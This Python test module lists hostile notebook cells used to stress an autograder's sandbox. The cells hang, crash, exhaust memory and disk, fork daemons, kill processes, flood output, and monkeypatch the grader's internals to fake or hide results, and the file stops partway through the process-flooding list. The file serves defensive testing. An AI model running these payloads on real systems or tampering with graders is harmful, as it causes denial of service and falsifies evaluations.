"""Notebooks that break, hang, flood, fork, phone home, snoop or vandalise. See ``attack.py`` for the rules of the game.

Most of them answer everything else right: what they do must cost the exercise that does it, and no more.
"""

from attack import FUNCTIONS, LINEAR, MODULES, RAN, Attack, all_but, cell_of
from nbformat.v4 import new_code_cell

HANG, DEATH, MEMORY, DISK = "hanging", "dying", "eating memory", "filling the disk"
OUTPUT, PROCESSES, NETWORK = "flooding with output", "flooding with processes", "phoning home"
SNOOP, VANDAL, VALUES, ITSELF = "snooping", "vandalising", "values that choke", "sawing at its own branch"

#: Kinds that must have several attacks each.
KINDS = (HANG, DEATH, MEMORY, DISK, OUTPUT, PROCESSES, NETWORK, SNOOP, VANDAL, VALUES, ITSELF)

BUT_RELU, BUT_LINEAR, BUT_TRACE = (
    all_but(FUNCTIONS, "relu"),
    all_but(LINEAR, "linear_forward"),
    all_but(MODULES, "trace_shapes"),
)
ALL_FUNCTIONS, ALL_LINEAR, ALL_MODULES = all_but(FUNCTIONS), all_but(LINEAR), all_but(MODULES)


def _details_without_end(notebook):
    """Hints that begin and never end: a search that goes to the end of the text for each takes quadratic time."""
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and "### Exercise 1:" in cell.source:
            cell.source += "<details>" * 20_000


HANGING = [
    Attack(
        "loop-in-the-answer",
        HANG,
        FUNCTIONS,
        """
import time

def relu(x):
    end = time.monotonic() + 60
    while time.monotonic() < end:
        pass
""",
        earned=BUT_RELU,
        says="longer than",
    ),
    Attack(
        "sleep-in-the-cell",
        HANG,
        LINEAR,
        """
import time

time.sleep(60)

def linear(x, weight, bias):
    return x @ weight.T + bias
""",
        earned=BUT_LINEAR,
        says="longer than",
    ),
    Attack(
        "swallows-interrupts",
        HANG,
        FUNCTIONS,
        """
import time

def relu(x):
    end = time.monotonic() + 60
    while time.monotonic() < end:
        try:
            while time.monotonic() < end:
                pass
        except BaseException:
            pass
""",
        earned=BUT_RELU,
        says="longer than",
    ),
    Attack(
        "ignores-signals",
        HANG,
        LINEAR,
        """
import signal
import time

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))

def linear(x, weight, bias):
    end = time.monotonic() + 60
    while time.monotonic() < end:
        time.sleep(0.1)
""",
        earned=BUT_LINEAR,
        says="longer than",
    ),
    Attack(
        "regular-expression-without-end",
        HANG,
        FUNCTIONS,
        """
import re

def relu(x):
    return re.match(r"(a+)+$", "a" * 33 + "b")
""",
        earned=BUT_RELU,
        says="longer than",
    ),
    Attack(
        "waits-for-a-lock",
        HANG,
        FUNCTIONS,
        """
import threading

lock = threading.Lock()
lock.acquire()

def relu(x):
    lock.acquire(timeout=60)
    return x
""",
        earned=BUT_RELU,
        says="longer than",
    ),
    Attack(
        "waits-for-input",
        HANG,
        LINEAR,
        """
def linear(x, weight, bias):
    return float(input("What is it? "))
""",
        earned=BUT_LINEAR,
        says="EOFError",
    ),
    Attack(
        "stops-itself",
        HANG,
        FUNCTIONS,
        """
import os
import signal
import time

def relu(x):
    os.kill(os.getpid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGTSTP)
    time.sleep(60)
""",
        earned=BUT_RELU,
        says="longer than",
    ),
    Attack(
        "list-without-end",
        HANG,
        MODULES,
        """
import itertools
import time

class Endless(nn.Sequential):
    def named_parameters(self, *values, **options):
        end = time.monotonic() + 60
        for i in itertools.count():
            if time.monotonic() > end:
                return
            yield f"{i}.weight", nn.Parameter(torch.zeros(1))

    def parameters(self, *values, **options):
        return (parameter for _, parameter in self.named_parameters())

    def __iter__(self):
        return itertools.repeat(nn.ReLU(), 10**9)

    def __len__(self):
        return 10**9

def mlp(widths):
    return Endless(nn.Linear(widths[0], widths[-1]))

def trace_shapes(net, x):
    end = time.monotonic() + 60
    while time.monotonic() < end:
        yield tuple(x.shape)
""",
        exercise="mlp",
        earned=all_but(MODULES, "trace_shapes", "mlp"),
        at_most=True,
        says="yours     ['Linear']",
    ),
    Attack(
        "hangs-when-it-is-looked-at",
        HANG,
        LINEAR,
        """
import time

class Slow:
    def __repr__(self):
        time.sleep(60)
        return "at last"

    __str__ = __len__ = __bool__ = __iter__ = __eq__ = __hash__ = __getattr__ = lambda self, *values: time.sleep(60)

def linear(x, weight, bias):
    return Slow()
""",
        earned=BUT_LINEAR,
        says="longer than",
    ),
    Attack(
        "hangs-at-the-end",
        HANG,
        FUNCTIONS,
        """
import atexit
import threading
import time

def stay():
    end = time.monotonic() + 40
    while time.monotonic() < end:
        try:
            time.sleep(1)
        except BaseException:
            pass

class Stays:
    def __del__(self):
        stay()

stays = Stays()
atexit.register(stay)
threading.Thread(target=stay).start()
print("hostile" "-ran")
""",
        place="last",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "slow-in-every-cell",
        HANG,
        LINEAR,
        """
import time

get_ipython().events.register("pre_run_cell", lambda info: time.sleep(60))
""",
        place="first",
        earned=ALL_LINEAR,
        at_most=True,
        says="longer than",
    ),
    Attack(
        "interrupts-raise-in-the-engine",
        HANG,
        FUNCTIONS,
        """
import _thread
import threading
import time

def annoy():
    end = time.monotonic() + 30
    while time.monotonic() < end:
        _thread.interrupt_main()
        time.sleep(0.0005)

def relu(x):
    threading.Thread(target=annoy, daemon=True).start()
    return x.clamp(min=0)

print("hostile" "-ran")
""",
        earned=ALL_FUNCTIONS,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "answers-byte-by-byte",
        HANG,
        LINEAR,
        """
import os
import struct
import time

def linear(x, weight, bias):
    os.write(3, struct.pack(">Q", 10_000_000))
    end = time.monotonic() + 60
    while time.monotonic() < end:
        try:
            os.write(3, b"x")
            time.sleep(0.05)
        except KeyboardInterrupt:
            pass
""",
        earned=BUT_LINEAR,
        says="longer than",
    ),
    Attack(
        "keeps-every-core-busy",
        HANG,
        FUNCTIONS,
        """
import ctypes
import os
import time

end = time.monotonic() + 8
for _ in range(48):
    try:
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"hostile-spin", 0, 0, 0)
            os.setsid()
            while time.monotonic() < end:
                pass
            os._exit(0)
    except OSError:
        break
time.sleep(3)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "keeps-every-core-busy-with-threads",
        HANG,
        LINEAR,
        """
import hashlib
import threading

def work():
    hashlib.pbkdf2_hmac("sha256", b"hostile", b"hostile", 1_500_000)

try:
    for _ in range(48):
        threading.Thread(target=work, daemon=True).start()
except RuntimeError as error:
    print(error)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "text-that-is-slow-to-read",
        HANG,
        FUNCTIONS,
        earned=ALL_FUNCTIONS,
        shows="✓",
        edit=_details_without_end,
    ),
    Attack(
        "markup-that-is-slow-to-clean",
        HANG,
        LINEAR,
        """
from IPython.display import HTML, display

display(HTML("<em>x</p>" * 12_000))
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "two-thousand-cells",
        HANG,
        FUNCTIONS,
        earned=ALL_FUNCTIONS,
        shows="1999",
        edit=lambda notebook: notebook.cells.extend(new_code_cell(f"{i}") for i in range(2000)),
    ),
    Attack(
        "stops-reading-what-it-is-sent",
        HANG,
        FUNCTIONS,
        """
import signal
import sys
import time

def receive(*values, **options):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        time.sleep(1)

sys.modules["autograder.execute.crossing.frames"].receive = receive
""",
        place="last",
        edit=lambda notebook: notebook.cells.append(new_code_cell("#" * 1_000_000)),
        earned=ALL_FUNCTIONS,
        says="could not be interrupted",
    ),
    Attack(
        "alarms-that-raise-in-the-engine",
        HANG,
        LINEAR,
        """
import signal

def alarm(number, frame):
    raise KeyError("hostile")

print("hostile" "-ran")
signal.signal(signal.SIGALRM, alarm)
signal.setitimer(signal.ITIMER_REAL, 0.3, 0.05)
""",
        place="cell",
        earned=ALL_LINEAR,
        at_most=True,
        shows=RAN,
    ),
]


def _dies_when_run_again(notebook):
    """Checks are not repeated in a new process, so the second cell follows sooner upon the first one there."""
    cell_of(notebook, "exercise-relu").source = """
import os, time

born = time.monotonic()

def relu(x):
    time.sleep(max(0, born + 0.5 - time.monotonic()))
    return x.clamp(min=0)
"""
    cell_of(notebook, "exercise-relu_backward").source = """
if time.monotonic() < born + 0.4:
    os._exit(1)

def relu_backward(grad_output, x):
    return grad_output * (x > 0)
"""
    cell_of(notebook, "exercise-dead_fraction").source = "def dead_fraction(h):\n    os._exit(1)"


DYING = [
    Attack(
        "exits-at-once-in-a-cell",
        DEATH,
        FUNCTIONS,
        """
import os

os._exit(0)
""",
        earned=BUT_RELU,
        says="ended the process",
    ),
    Attack(
        "exits-at-once-in-the-second-answer",
        DEATH,
        FUNCTIONS,
        """
import os

def relu_backward(grad_output, x):
    os._exit(0)
""",
        exercise="relu_backward",
        earned=all_but(FUNCTIONS, "relu_backward"),
        says="ended the process",
    ),
    Attack(
        "exits-in-an-extra-cell",
        DEATH,
        LINEAR,
        """
import os

os._exit(1)
""",
        place="cell",
        exercise="collapse",
        earned=ALL_LINEAR,
        says="ended the process",
    ),
    Attack(
        "system-exit",
        DEATH,
        LINEAR,
        """
import sys

def linear(x, weight, bias):
    print("hostile" "-ran")
    exit()

def parameter_count(widths, bias=True):
    sys.exit(1)

quit()
""",
        earned=BUT_LINEAR,
        shows=RAN,
    ),
    Attack(
        "segmentation-fault",
        DEATH,
        FUNCTIONS,
        """
import ctypes

def relu(x):
    ctypes.string_at(0)
""",
        earned=BUT_RELU,
        says="ended the process",
    ),
    Attack(
        "stack-overflow",
        DEATH,
        LINEAR,
        """
import sys

sys.setrecursionlimit(10**8)

def linear(x, weight, bias):
    return linear(x, weight, bias)
""",
        earned=BUT_LINEAR,
        says="the check for exercise",
    ),
    Attack(
        "recursion-through-c",
        DEATH,
        FUNCTIONS,
        """
class Deep:
    def __getattr__(self, name):
        return getattr(self, name + "x")

    def __repr__(self):
        return repr(self) + "x"

    def __eq__(self, other):
        return self == other

    def __reduce__(self):
        return Deep, (self,)

def relu(x):
    y = []
    for _ in range(300_000):
        y = [y]
    print("hostile" "-ran")
    return y, Deep()
""",
        earned=BUT_RELU,
        shows=RAN,
    ),
    Attack(
        "aborts",
        DEATH,
        LINEAR,
        """
import os

def linear(x, weight, bias):
    os.abort()
""",
        earned=BUT_LINEAR,
        says="ended the process",
    ),
    Attack(
        "kills-itself-and-all-around",
        DEATH,
        FUNCTIONS,
        """
import os
import signal

def relu(x):
    # Inside a PID namespace numbers are small. Outside nothing is killed.
    if os.getpid() < 200:
        for number in (os.getppid(), *range(200, 0, -1)):
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    os._exit(9)
""",
        earned=BUT_RELU,
        says="ended the process",
    ),
    Attack(
        "dies-in-every-answer",
        DEATH,
        LINEAR,
        """
import os
import sys

def die(*values, **options):
    os._exit(3)

def watch(frame, event, argument):
    if event == "call" and frame.f_code.co_name in ("parameter_count", "initial_values", "given_map", "collapse"):
        die()

linear = linear_along = die
sys.setprofile(watch)
""",
        earned=BUT_LINEAR,
        at_most=True,
        says="ended the process",
    ),
    Attack(
        "dies-of-its-own-limits",
        DEATH,
        FUNCTIONS,
        """
import resource

def relu(x):
    for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_STACK):
        resource.setrlimit(kind, (0, 0))
    return bytearray(10**7)
""",
        earned=BUT_RELU,
        says="ended the process",
    ),
    Attack(
        "dies-only-when-it-is-run-again",
        DEATH,
        FUNCTIONS,
        edit=_dies_when_run_again,
        earned=all_but(FUNCTIONS, "dead_fraction"),
        at_most=True,
        says="ended the process",
    ),
    Attack(
        "interrupts-itself",
        DEATH,
        LINEAR,
        """
def linear(x, weight, bias):
    raise KeyboardInterrupt

def parameter_count(widths, bias=True):
    raise GeneratorExit
""",
        earned=BUT_LINEAR,
        says="interrupted itself",
    ),
    Attack(
        "dies-while-it-answers",
        DEATH,
        MODULES,
        """
import os
import struct
import threading

def trace_shapes(net, x):
    os.write(3, struct.pack(">Q", 10**8) + b"half a message")
    os._exit(0)
""",
        earned=BUT_TRACE,
        says="ended the process",
    ),
]

EATING_MEMORY = [
    Attack(
        "three-gigabytes-in-steps",
        MEMORY,
        FUNCTIONS,
        """
import time

def relu(x):
    end, hoard = time.monotonic() + 20, []
    while time.monotonic() < end and len(hoard) < 60:
        hoard.append(bytearray(b"x") * 50_000_000)
    return x.clamp(min=0)
""",
        earned=BUT_RELU,
        says="MemoryError",
    ),
    Attack(
        "tensor-of-a-terabyte",
        MEMORY,
        LINEAR,
        """
def linear(x, weight, bias):
    return torch.zeros(2**40, dtype=torch.uint8)
""",
        earned=BUT_LINEAR,
        says="allocate memory",
    ),
    Attack(
        "memory-that-limits-do-not-see",
        MEMORY,
        FUNCTIONS,
        """
import mmap
import os
import time

def relu(x):
    end, hoard = time.monotonic() + 20, []
    try:
        handle = os.memfd_create("hostile")
        os.truncate(handle, 3_000_000_000)
        for i in range(60):
            if time.monotonic() < end:
                os.pwrite(handle, b"x" * 50_000_000, i * 50_000_000)
        print("GOT" "-IN: memfd")
    except OSError as error:
        print(error)
    try:
        for i in range(60):
            hoard.append(mmap.mmap(-1, 50_000_000))
            hoard[-1].write(b"x" * 50_000_000)
        print("GOT" "-IN: mmap")
    except (OSError, MemoryError) as error:
        print(error)
    print("hostile" "-ran")
    raise MemoryError
""",
        earned=BUT_RELU,
        shows=RAN,
    ),
    Attack(
        "shared-memory-that-nobody-holds",
        MEMORY,
        FUNCTIONS,
        """
import ctypes

libc, segments = ctypes.CDLL(None, use_errno=True), 0
libc.shmat.restype = ctypes.c_void_p
for segments in range(40):
    segment = libc.shmget(0, ctypes.c_size_t(50_000_000), 0o1600)
    address = libc.shmat(segment, None, 0) if segment >= 0 else None
    if address in (None, ctypes.c_void_p(-1).value):
        print(segments, ctypes.get_errno())
        break
    ctypes.memset(address, 1, 50_000_000)
    libc.shmdt(ctypes.c_void_p(address))
else:
    print("GOT" "-IN: shared memory")
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "memory-in-many-processes",
        MEMORY,
        LINEAR,
        """
import os
import time

def linear(x, weight, bias):
    children = []
    for _ in range(12):
        child = os.fork()
        if child == 0:
            try:
                hoard = bytearray(b"x") * 250_000_000
                time.sleep(3)
            finally:
                os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    raise MemoryError
""",
        earned=BUT_LINEAR,
        says="emory",
    ),
    Attack(
        "memory-while-it-keeps-the-watch-busy",
        MEMORY,
        LINEAR,
        """
import os
import struct
import time

def linear(x, weight, bias):
    os.write(3, struct.pack(">Q", 10_000_000))
    for _ in range(12):
        if os.fork() == 0:
            try:
                hoard = bytearray(b"x") * 250_000_000
                time.sleep(3)
            finally:
                os._exit(0)
    end = time.monotonic() + 4
    while time.monotonic() < end:
        os.write(3, b"x")
        time.sleep(0.05)
    os._exit(0)
""",
        earned=BUT_LINEAR,
        says="the check for exercise",
    ),
    Attack(
        "half-a-million-objects",
        MEMORY,
        MODULES,
        """
class Thing:
    pass

def trace_shapes(net, x):
    return [Thing() for _ in range(500_000)]
""",
        earned=BUT_TRACE,
        says="more than 200,000 elements",
    ),
    Attack(
        "memory-of-the-graders",
        MEMORY,
        MODULES,
        """
def trace_shapes(net, x):
    return ["x" * 10_000_000] * 40
""",
        earned=BUT_TRACE,
        says="it takes 400 MB",
    ),
    Attack(
        "small-tensor-large-result",
        MEMORY,
        LINEAR,
        """
def linear(x, weight, bias):
    return torch.zeros(()).expand(100_000, 100_000)

def linear_along(x, weight, bias=None, dim=-1):
    return [torch.zeros(1000)] * 10**6

def linear_backward(grad_s, x, weight):
    return tuple(range(10**7))

def parameter_count(widths, bias=True):
    return 1 << 10**8
""",
        earned=BUT_LINEAR,
        says="a tensor that is too large",
    ),
    Attack(
        "memory-in-large-buffers-of-sockets",
        MEMORY,
        FUNCTIONS,
        """
import socket

pairs, sent = [], 0
for _ in range(200):
    pairs.append(socket.socketpair())
    for end in pairs[-1]:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 100_000_000)
        end.setblocking(False)
        try:
            while True:
                sent += end.send(b"x" * 65536)
        except BlockingIOError:
            pass
if sent > 400 * 280_000:
    print("GOT" "-IN: buffers")
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "memory-in-sockets-of-many-processes",
        MEMORY,
        LINEAR,
        """
import os
import socket
import time

def linear(x, weight, bias):
    for _ in range(5):
        os.fork()
    pairs = [socket.socketpair() for _ in range(240)]
    for end in [end for pair in pairs for end in pair]:
        end.setblocking(False)
        try:
            while True:
                end.send(b"x" * 65536)
        except BlockingIOError:
            pass
    time.sleep(60)
""",
        earned=BUT_LINEAR,
        says="emory",
    ),
    Attack(
        "memory-while-a-byte-trickles",
        MEMORY,
        FUNCTIONS,
        """
import os
import struct
import time

def relu(x):
    os.write(3, struct.pack(">Q", 10_000_000))
    for _ in range(12):
        if os.fork() == 0:
            try:
                hoard = bytearray(b"x") * 250_000_000
                time.sleep(8)
            finally:
                os._exit(0)
    end = time.monotonic() + 9
    while time.monotonic() < end:
        os.write(3, b"x")
        time.sleep(0.001)
    os._exit(0)
""",
        earned=BUT_RELU,
        says="the check for exercise",
    ),
    Attack(
        "hundreds-of-thousands-of-numbers",
        MEMORY,
        FUNCTIONS,
        "x = [" + "1," * 900_000 + "]\nprint(len(x))",
        place="last",
        earned=ALL_FUNCTIONS,
        shows="900000",
    ),
    Attack(
        "thousands-of-empty-cells",
        MEMORY,
        LINEAR,
        edit=lambda notebook: notebook.cells.extend(new_code_cell("") for _ in range(4800)),
        earned=ALL_LINEAR,
        shows="✓",
    ),
    Attack(
        "parentheses-without-end",
        MEMORY,
        LINEAR,
        "x = " + "(" * 90_000,
        place="last",
        earned=ALL_LINEAR,
        shows="SyntaxError",
    ),
    Attack(
        "signs-without-end",
        MEMORY,
        MODULES,
        "x = " + "-" * 90_000 + "1",
        place="last",
        earned=ALL_MODULES,
        shows="Error",
    ),
]

FILLING_THE_DISK = [
    Attack(
        "three-hundred-megabytes-in-files",
        DISK,
        FUNCTIONS,
        """
import os
import time
from pathlib import Path

written, end = 0, time.monotonic() + 20
for folder in (Path.cwd(), Path("/tmp"), Path("/dev/shm"), Path.home(), Path("/var/tmp"), Path("@COURSE@")):
    try:
        with open(folder / "hostile-flood", "wb") as file:
            for _ in range(6):
                if time.monotonic() < end:
                    written += file.write(b"x" * 10_000_000)
                    file.flush()
    except OSError as error:
        print(folder, error)
if written > 2 * 60_000_000:
    print("GOT" "-IN", written)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "many-small-files",
        DISK,
        LINEAR,
        """
import time

made, end = 0, time.monotonic() + 3
try:
    for made in range(60_000):
        open(f"hostile-{made}", "w").close()
        if time.monotonic() > end:
            break
except OSError as error:
    print(made, error)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "files-where-no-files-belong",
        DISK,
        LINEAR,
        """
import os
import time

end = time.monotonic() + 20
for folder in ("/proc", "/dev", "/", "/tmp/..", "/usr", "/run", "/sys", "/mnt", "/home", "/root"):
    written = 0
    try:
        os.chmod(folder, 0o777)
    except OSError:
        pass
    try:
        for i in range(8):
            with open(os.path.join(folder, f"hostile-{i}"), "wb") as file:
                for _ in range(4):
                    if time.monotonic() < end:
                        written += file.write(b"x" * 10_000_000)
        print("GOT" "-IN", folder, written)
    except OSError as error:
        print(folder, written, error)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "files-that-are-deleted-but-open",
        DISK,
        FUNCTIONS,
        """
import os
import time

written, files, end = 0, [], time.monotonic() + 20
try:
    for i in range(30):
        file = open(f"hostile-{i}", "wb")
        os.unlink(f"hostile-{i}")
        files.append(file)
        if time.monotonic() < end:
            written += file.write(b"x" * 10_000_000)
            file.flush()
    print("GOT" "-IN", written)
except OSError as error:
    print(error)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "half-in-one-place-and-half-in-another",
        DISK,
        LINEAR,
        """
written = []
for folder in ("/tmp/work", "/dev/shm"):
    try:
        with open(f"{folder}/hostile-half", "wb") as file:
            written.append(file.write(b"x" * 30_000_000))
    except OSError as error:
        print(folder, error)
if len(written) == 2:
    print("GOT" "-IN", written)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
]

FLOODING_WITH_OUTPUT = [
    Attack(
        "prints-fifty-megabytes-in-lines",
        OUTPUT,
        FUNCTIONS,
        """
def relu(x):
    for _ in range(50_000):
        print("no end of this " * 66)
    return x.clamp(min=0)
""",
        earned=BUT_RELU,
        says="MB of output",
    ),
    Attack(
        "prints-fifty-megabytes-at-once",
        OUTPUT,
        LINEAR,
        """
print("x" * 50_000_000)

def linear(x, weight, bias):
    return x @ weight.T + bias
""",
        earned=BUT_LINEAR,
        says="MB of output",
    ),
    Attack(
        "prints-and-swallows-what-stops-it",
        OUTPUT,
        FUNCTIONS,
        """
def relu(x):
    for _ in range(50_000):
        try:
            print("no end of this " * 66)
        except BaseException:
            pass
    return x.clamp(min=0)
""",
        earned=BUT_RELU,
        says="MB of output",
    ),
    Attack(
        "writes-to-the-descriptors-of-output",
        OUTPUT,
        LINEAR,
        """
import os
import subprocess
import sys

def linear(x, weight, bias):
    for descriptor in (1, 2):
        for _ in range(25):
            try:
                os.write(descriptor, b"hostile" * 140_000)
            except OSError:
                break
    for stream in (sys.__stdout__, sys.__stderr__):
        try:
            stream.write("hostile" * 1_000_000)
            stream.flush()
        except Exception:
            pass
    subprocess.run(["head", "-c", "20000000", "/dev/zero"])
    print("hostile" "-ran")
    return x @ weight.T + bias
""",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "displays-fifty-megabytes",
        OUTPUT,
        FUNCTIONS,
        """
from IPython.display import HTML, display

for _ in range(50):
    display(HTML("x" * 1_000_000))

def relu(x):
    return x.clamp(min=0)
""",
        earned=BUT_RELU,
        says="MB of output",
    ),
    Attack(
        "exception-of-fifty-megabytes",
        OUTPUT,
        LINEAR,
        """
def linear(x, weight, bias):
    error = ValueError("x" * 50_000_000)
    error.add_note("y" * 50_000_000)
    raise error
""",
        earned=BUT_LINEAR,
        says="ValueError: xxxx",
    ),
    Attack(
        "exceptions-in-a-long-chain",
        OUTPUT,
        FUNCTIONS,
        """
def relu(x):
    error = ValueError("first")
    for i in range(300):
        try:
            raise ValueError("x" * 1000) from error
        except ValueError as next_one:
            error = next_one
    print("hostile" "-ran")
    raise error
""",
        earned=BUT_RELU,
        shows=RAN,
    ),
    Attack(
        "exception-of-fifty-megabytes-in-a-cell",
        OUTPUT,
        FUNCTIONS,
        """
raise type("E" * 10_000_000, (Exception,), {})("x" * 50_000_000)
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        says="MB of output",
    ),
    Attack(
        "lifts-its-own-limits-on-output",
        OUTPUT,
        LINEAR,
        """
import sys

student = sys.modules.get("autograder.execute.learner.student")
if student is not None:
    output = {"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}
    result = {"status": "ok", "outputs": [output], "too_much": False, "count": 3}
    student.Student._do_run = lambda self, code, pictures, alone: result
    student._error = lambda error, traceback: [["ValueError"], "y" * 50_000_000, "z" * 50_000_000]
    student._text = student._stream_text = lambda value: "v" * 50_000_000

def linear(x, weight, bias):
    raise ValueError
""",
        place="cell",
        earned=ALL_LINEAR,
        at_most=True,
        says="MB of output",
    ),
    Attack(
        "sixty-pictures",
        OUTPUT,
        LINEAR,
        """
import matplotlib.pyplot as plt

for _ in range(60):
    plt.figure().gca().imshow(torch.rand(200, 200))

print("hostile" "-ran")

def linear(x, weight, bias):
    return x @ weight.T + bias
""",
        earned=ALL_LINEAR,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "prints-what-no-file-can-hold",
        OUTPUT,
        FUNCTIONS,
        """
from IPython.display import display

print("\\ud800 \\x00 \\x1b[31m \\x07 \\uffff \\u202e \\r\\b")
display({"text/plain": "\\ud800", "text/html": "\\udfff", "\\ud800": "x"}, raw=True)

def relu(x):
    print("\\ud800\\x00", "hostile" "-ran")
    return x.clamp(min=0)
""",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "displays-what-no-file-can-hold",
        OUTPUT,
        LINEAR,
        """
from IPython.display import display

def show(data, **options):
    try:
        display(data, raw=True, **options)
    except Exception as error:
        print(type(error).__name__)

show({"text/plain": 5, "image/png": b"\\xff", 7: None})
show({"application/json": {"a": {1, 2}, "b": (3,), "c": torch.zeros(2), "d": object(), "e": 1j, "f": 10**400}})
show({"application/json": {"deep": [[[[float("nan")]]]], 3: b"x", None: {}}})
show({"text/plain": "x"}, metadata={"\\ud800": object(), 5: b"x"})
show({"text/plain": ["\\ud800", 3], "text/html": {"x": b"y"}, "image/svg+xml": [b"z"]})
loop = {}
loop["loop"] = loop
show({"application/json": loop})
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "three-hundred-cells-of-output",
        OUTPUT,
        FUNCTIONS,
        edit=lambda notebook: notebook.cells.extend(new_code_cell("print('x' * 450_000)") for _ in range(300)),
        earned=ALL_FUNCTIONS,
        says="MB of output: the rest is left out",
    ),
    Attack(
        "displays-what-is-nested-without-end",
        OUTPUT,
        MODULES,
        """
from IPython.display import display

for depth in (30, 900):
    deep = []
    for _ in range(depth):
        deep = [deep]
    try:
        display({"application/json": deep}, raw=True)
    except BaseException as error:
        print(type(error).__name__)
print("hostile" "-ran")
""",
        place="last",
        earned=ALL_MODULES,
        at_most=True,
        shows=RAN,
    ),
]

FLOODING_WITH_PROCESSES = [
    Attack(
        "two-hundred-forks",
        PROCESSES,
        FUNCTIONS,
        """
import ctypes
import os
import time

def relu(x):
    made = 0
    for _ in range(200):
        try:
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b"hostile-fork", 0, 0, 0)
                time.sleep(20)
                os._exit(0)
            made += 1
        except OSError as error:
            print(error)
            break
    if made >= 200:
        print("GOT" "-IN", made)
    print("hostile" "-ran")
    return x.clamp(min=0)
""",
        earned=ALL_FUNCTIONS,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "forks-that-fork",
        PROCESSES,
        LINEAR,
        """
import ctypes
import os
import time

def linear(x, weight, bias):
    end = time.monotonic() + 2
    for level in range(7):  # at most 127
        try:
            os.fork()
        except OSError:
            break
    if os.getpid() != me:
        ctypes.CDLL(None).prctl(15, b"hostile-tree", 0, 0, 0)
        time.sleep(max(0, end + 15 - time.monotonic()))
        os._exit(0)
    print("hostile" "-ran")
    return x @ weight.T + bias

me = os.getpid()
""",
        earned=ALL_LINEAR,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "daemon-that-outlives-it",
        PROCESSES,
        FUNCTIONS,
        """
import ctypes
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(15, b"hostile-daemon", 0, 0, 0)
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        os.closerange(0, 64)
        time.sleep(50)
    os._exit(0)
os.wait()
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "programs-that-outlive-it",
        PROCESSES,
        LINEAR,
        """
import os
import subprocess
import sys

code = "import time; time.sleep(50)"
for _ in range(5):
    subprocess.Popen([sys.executable, "-c", code, "hostile-program"], start_new_session=True)
subprocess.Popen("exec -a hostile-sleep sleep 50", shell=True, executable="/bin/bash", start_new_session=True)
get_ipython().system_raw("nohup sleep 50 hostile 2>/dev/null >/dev/null &")
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "five-hundred-threads",
        PROCESSES,
        FUNCTIONS,
        """
import threading
import time

made = 0
try:
    for made in range(500):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    print("GOT" "-IN", made)
except RuntimeError as error:
    print(made, error)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "two-of-itself-on-the-line",
        PROCESSES,
        LINEAR,
        """
import os

def linear(x, weight, bias):
    os.fork()
    print("hostile" "-ran")
    return x @ weight.T + bias
""",
        earned=ALL_LINEAR,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "exits-and-leaves-a-child-on-the-line",
        PROCESSES,
        FUNCTIONS,
        """
import os
import time

if os.fork():
    time.sleep(0.2)
    os._exit(0)
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        at_most=True,
        says="ended the process",
    ),
    Attack(
        "does-not-want-to-end-with-the-examiner",
        PROCESSES,
        FUNCTIONS,
        """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for number in (0, 19, 23):
    if libc.prctl(1, number, 0, 0, 0) == 0:
        print("GOT" "-IN: nobody ends it")
    print(ctypes.get_errno())
print("hostile" "-ran")
""",
        place="cell",
